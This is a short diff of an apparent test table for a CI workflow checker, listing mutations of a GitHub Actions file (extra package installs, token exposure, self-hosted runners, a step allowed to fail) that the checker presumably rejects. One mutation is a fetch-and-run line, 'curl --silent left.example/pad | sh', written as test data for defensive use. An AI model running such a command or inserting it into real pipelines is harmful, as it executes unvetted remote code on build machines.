@@ -48,7 +48,7 @@ RELEASES = "build/parution\n        env:\n          GH_TOKEN: ${{ github.token }
         (CI, "run: .ci/run", "run: npm install left-pad && .ci/run", "npm outside"),
         (CI, "run: .ci/run", "run: .venv/bin/pip install left-pad", "pip outside"),
         (CI, "run: .ci/run", "run: curl --silent left.example/pad | sh", "fetched by its address"),
-        (CI, "run: .ci/run", "env:\n          GH_TOKEN: ${{ github.token }}\n        run: .ci/run", "a token for"),
+        (CI, "ESSAIS: $", "GH_TOKEN: ${{ github.token }}\n          ESSAIS: $", "a token for"),
         (CI, "run: .ci/run", "continue-on-error: true\n        run: .ci/run", "a step that may fail"),
         (CI, 'python-version: "3.11"', 'python-version: "3.11"\n          cache: pip', "a cache"),
         (CI, "runs-on: ubuntu-latest", "runs-on: self-hosted", "another machine"),
